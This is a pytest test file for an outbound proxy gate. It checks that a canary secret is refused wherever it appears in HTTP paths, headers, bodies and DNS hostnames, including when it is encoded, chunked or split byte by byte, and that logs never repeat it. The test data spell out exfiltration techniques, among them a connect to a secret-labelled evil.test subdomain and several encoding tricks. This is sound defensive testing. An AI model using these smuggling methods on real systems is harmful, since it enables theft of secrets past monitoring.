"""Known secrets on their way out: in names, heads and bodies, however cut and spelt (case 99)."""

from __future__ import annotations

import base64
import time
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from stockade.egress.gate import Secret
from tests.egress.netlab import NetLab, Origin, response
from tests.egress.proxy.harness import Attached, Client
from tests.egress.proxy.sites import IP, LIMITS, Sites, ask, eventually, policy

VALUE = "canary-9F8e7d6c5b4a"
SECRETS = (Secret("canary", VALUE), Secret("phrase", "correct horse/battery+staple=="))
POLICY = policy(
    "{host: api.test, methods: [GET, POST], ports: [80, 443]}",
    '{host: "*.wild.test", ports: [80, 443]}',
    '{host: "*.seen.test", methods: [GET], ports: [80, 443]}',
    '{host: "*.raw.test", tcp: true, ports: [22]}',
    limits=LIMITS,
)


@pytest.fixture(scope="module")
def sites(lab: NetLab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sites]:
    with Sites(lab, tmp_path_factory.mktemp("record")) as made:
        yield made


@pytest.fixture(scope="module")
def shared(sites: Sites) -> Origin:
    return sites.site("api.test", "*.wild.test", "*.seen.test")


@pytest.fixture
def site(sites: Sites, shared: Origin) -> Origin:
    shared.received.clear()
    shared.respond = lambda _request: response(b"hello")
    sites.lab.add_host("api.test", IP)
    return shared


@pytest.fixture
def rollout(sites: Sites) -> Attached:
    return sites.attach(POLICY, secrets=SECRETS)


def found(rollout: Attached, site: Origin, sites: Sites, kind: str = "net.request") -> None:
    """Assert that a refusal is on record, by the name of the secret and not by its value."""
    event = rollout.last(kind)
    assert (event["verdict"], event["reason"], event["severity"]) == ("denied", "secret_found", 5)
    assert "canary" in event["detail"]
    assert VALUE.lower() not in rollout.record.read_text().lower()
    assert site.received == []


HEADS = {
    "path": (f"/{VALUE}", ()),
    "path_encoded": ("/" + "".join(f"%{ord(char):02x}" for char in VALUE if char != "-") + "x", None),
    "query": (f"/?a={VALUE}", ()),
    "query_upper": (f"/?a={VALUE.upper()}", ()),
    "query_encoded": ("/?a=" + "".join(f"%{ord(char):02X}" for char in VALUE), ()),
    "query_hex": (f"/?a={VALUE.encode().hex()}", ()),
    "user_agent": ("/", (f"User-Agent: curl/{VALUE}",)),
    "cookie": ("/", (f"Cookie: session={VALUE}; a=b",)),
    "referer": ("/", (f"Referer: https://x.test/{VALUE}",)),
    "basic": ("/", ("Authorization: Basic " + base64.b64encode(f"user:{VALUE}".encode()).decode(),)),
    "name_of_a_header": ("/", (f"X-{VALUE}: 1",)),
    "over_base64_at_1": ("/?d=" + base64.urlsafe_b64encode(f"a{VALUE}b".encode()).decode().rstrip("="), ()),
    "over_base64_at_2": (
        "/?d=" + base64.b64encode(f"ab{VALUE}b".encode()).decode().rstrip("=").replace("+", "%2B"),
        (),
    ),
}


@pytest.mark.parametrize("case", [case for case, (_, lines) in HEADS.items() if lines is not None])
def test_egress_case_099_in_a_head(case: str, sites: Sites, rollout: Attached, site: Origin) -> None:
    path, lines = HEADS[case]
    queries = len(sites.lab.dns.queries)
    with sites.inside(rollout, "api.test") as client:
        reply = ask(client, "api.test", path, *(lines or ()))
    assert (reply.status, reply.reason) == (403, "secret_found")
    assert VALUE.encode() not in reply.body
    found(rollout, site, sites)
    assert len(sites.lab.dns.queries) == queries


def test_egress_case_099_in_clear_text_as_well(sites: Sites, rollout: Attached, site: Origin) -> None:
    plain = sites.lab.http(IP, 80)
    with rollout.connect() as client:
        assert client.get(f"http://api.test/?{VALUE}").reason == "secret_found"
    with rollout.connect() as client:
        assert client.get("http://api.test/", f"X-Data: {VALUE}").reason == "secret_found"
    assert plain.connections == 0
    plain.close()


BODIES = {
    "plain": VALUE.encode(),
    "in_json": b'{"key": "' + VALUE.encode() + b'"}',
    "in_the_middle": b"x" * 100_000 + VALUE.encode() + b"y" * 100_000,
    "base64": base64.b64encode(b"some" + VALUE.encode()),
    "base64_in_lines": base64.encodebytes(b"z" * 50 + VALUE.encode() + b"z" * 50),
    "hex": VALUE.encode().hex().upper().encode(),
    "form": b"a=" + quote(SECRETS[1].value).encode(),
    "form_plus": b"a=correct+horse%2Fbattery%2Bstaple%3D%3D",
    "upper": VALUE.upper().encode(),
}


@pytest.mark.parametrize("case", BODIES)
@pytest.mark.parametrize("chunked", [False, True])
def test_egress_case_099_in_a_body(case: str, *, chunked: bool, sites: Sites, rollout: Attached, site: Origin) -> None:
    body = BODIES[case]
    with sites.inside(rollout, "api.test") as client:
        send(client, body, chunked=chunked)
        reply = client.reply()
    assert (reply.status, reply.reason) == (403, "secret_found")
    assert site.received == []
    eventually(lambda: "secret_found" in {event["reason"] for event in rollout.events()})
    assert VALUE not in rollout.record.read_text()


def send(client: Client, body: bytes, *, chunked: bool, piece: int = 1 << 16, pause_s: float = 0) -> None:
    """Send a POST in pieces; the other side may hang up in the middle."""
    framing = b"Transfer-Encoding: chunked" if chunked else b"Content-Length: %d" % len(body)
    client.send(b"POST /x HTTP/1.1\r\nHost: api.test\r\n" + framing + b"\r\n\r\n")
    try:
        for start in range(0, len(body), piece):
            part = body[start : start + piece]
            client.send(b"%x\r\n%b\r\n" % (len(part), part) if chunked else part)
            time.sleep(pause_s)
        if chunked:
            client.send(b"0\r\n\r\n")
    except OSError:
        pass


@pytest.mark.parametrize("chunked", [False, True])
@pytest.mark.parametrize("case", ["plain", "base64", "hex", "form"])
def test_egress_case_099_cut_into_single_bytes(
    case: str, *, chunked: bool, sites: Sites, rollout: Attached, site: Origin
) -> None:
    """The last byte never leaves, whatever became of those before."""
    body = b"-- " + BODIES[case] + b" --"
    with sites.inside(rollout, "api.test") as client:
        send(client, body, chunked=chunked, piece=1, pause_s=0.002)
        assert client.reply().reason == "secret_found"
    assert site.received == []
    assert rollout.last()["reason"] in ("secret_found", "inspected")


def test_egress_case_099_between_head_and_body_nothing_is_joined(sites: Sites, rollout: Attached, site: Origin) -> None:
    with sites.inside(rollout, "api.test") as client:
        assert ask(client, "api.test", "/canary-9F8e", method="POST", body=b"7d6c5b4a").status == 200


def test_what_is_not_sent_on_is_not_looked_for(sites: Sites, rollout: Attached, site: Origin) -> None:
    """Chunk extensions and trailers stay here, so a secret in them has not left."""
    body = b"3;" + VALUE.encode() + b"\r\nabc\r\n0\r\nX-T: " + VALUE.encode() + b"\r\n\r\n"
    with sites.inside(rollout, "api.test") as client:
        client.send(b"POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
        assert client.reply().status in (200, 400)
    for request in site.received:
        assert VALUE.encode() not in request.head + request.body


@pytest.mark.parametrize(
    "raw",
    [
        f"GET /{VALUE} HTTP/1.1\r\nHost: other.test\r\n\r\n",  # refused before anybody looks for secrets
        f"GET /{VALUE}/../x HTTP/1.1\r\nHost: api.test\r\n\r\n",
        f"PUT /{VALUE} HTTP/1.1\r\nHost: api.test\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {VALUE}.test\r\n\r\n",
        f"{VALUE} / HTTP/1.1\r\nHost: api.test\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: api.test\r\nX-Rollout-Id: {VALUE}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: api.test\r\nX-Forwarded-For: {VALUE}\r\n\r\n",
    ],
)
def test_egress_case_099_no_record_repeats_it(raw: str, sites: Sites, rollout: Attached, site: Origin) -> None:
    """Whatever the reason of a refusal is, and whether it was one."""
    with sites.inside(rollout, "api.test") as client:
        client.send(raw.encode()).reply()
    with rollout.connect() as client:
        client.connect(f"{LABEL}.evil.test")
    with rollout.connect() as client:
        assert client.connect("a.wild.test").status in (200, 502)
    assert len(rollout.events()) > 2
    assert VALUE.lower() not in rollout.record.read_text().lower()
    assert "[secret]" in rollout.record.read_text()


def test_answers_may_hold_it(sites: Sites, rollout: Attached, site: Origin) -> None:
    site.respond = lambda _request: response(VALUE.encode())
    with sites.inside(rollout, "api.test") as client:
        assert ask(client, "api.test").body == VALUE.encode()


LABEL = VALUE.lower()


@pytest.mark.parametrize(
    ("host", "port"),
    [
        (f"{LABEL}.wild.test", 443),
        (f"a.{LABEL}.wild.test", 443),
        (f"{VALUE.encode().hex()}.wild.test", 443),
        (f"{LABEL}.seen.test", 443),
        (f"{LABEL}.raw.test", 22),
    ],
)
def test_egress_case_099_in_the_name_of_a_host_nothing_is_asked(
    host: str, port: int, sites: Sites, rollout: Attached, site: Origin
) -> None:
    """A name server under the wildcard would read it out of the question (case 43)."""
    queries = len(sites.lab.dns.queries)
    with rollout.connect() as client:
        reply = client.connect(host, port)
    assert (reply.status, reply.reason) == (403, "secret_found")
    found(rollout, site, sites, "net.connect")
    assert len(sites.lab.dns.queries) == queries


@pytest.mark.parametrize("host", [f"{LABEL}.wild.test", f"{LABEL}.seen.test"])
def test_egress_case_099_in_the_name_of_a_plain_request(
    host: str, sites: Sites, rollout: Attached, site: Origin
) -> None:
    queries = len(sites.lab.dns.queries)
    with rollout.connect() as client:
        assert client.get(f"http://{host}/").reason == "secret_found"
    assert len(sites.lab.dns.queries) == queries


def test_without_secrets_nothing_is_looked_for(sites: Sites, site: Origin) -> None:
    rollout = sites.attach(POLICY)
    with sites.inside(rollout, "api.test") as client:
        assert ask(client, "api.test", f"/{VALUE}", method="POST", body=VALUE.encode()).status == 200


def test_the_worker_has_counted_no_fault(sites: Sites) -> None:
    """Stays last: none of the above went through an exception that nobody expected."""
    assert sites.worker.ask("stats")["faults"] == 0
